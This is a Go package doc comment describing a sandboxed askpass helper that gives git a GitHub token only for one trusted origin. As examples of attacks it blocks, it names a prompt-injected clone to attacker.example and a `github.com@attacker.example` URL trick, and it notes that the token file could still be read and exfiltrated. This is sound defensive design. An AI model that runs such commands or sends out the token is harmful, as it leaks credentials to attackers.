// Package gitcred decides, inside a sandbox, whether git may be given the
// GitHub installation token. git asks its GIT_ASKPASS program for a user
// name and a password with a prompt that names the URL it is talking to
// ("Username for 'https://github.com': ", "Password for
// 'https://x-access-token@github.com': "); Answer parses that prompt
// strictly and answers only for the one origin (scheme, host and port)
// podbot clones from, so a prompt-injected `git clone
// https://attacker.example/x` (or a submodule URL, or
// https://github.com@attacker.example/) gets nothing.
//
// The package is pure (standard library and errdefs only) so the static
// podbot-sidecar can carry it into the sandbox, where it runs as git's
// askpass program. The host side uses ParseOrigin to turn
// github.clone_base_url into the origin it writes next to the token.
//
// This guards git, not the token file: a process in the sandbox can still
// read /run/secrets/ghapp_token itself and send it anywhere it can reach.
package gitcred
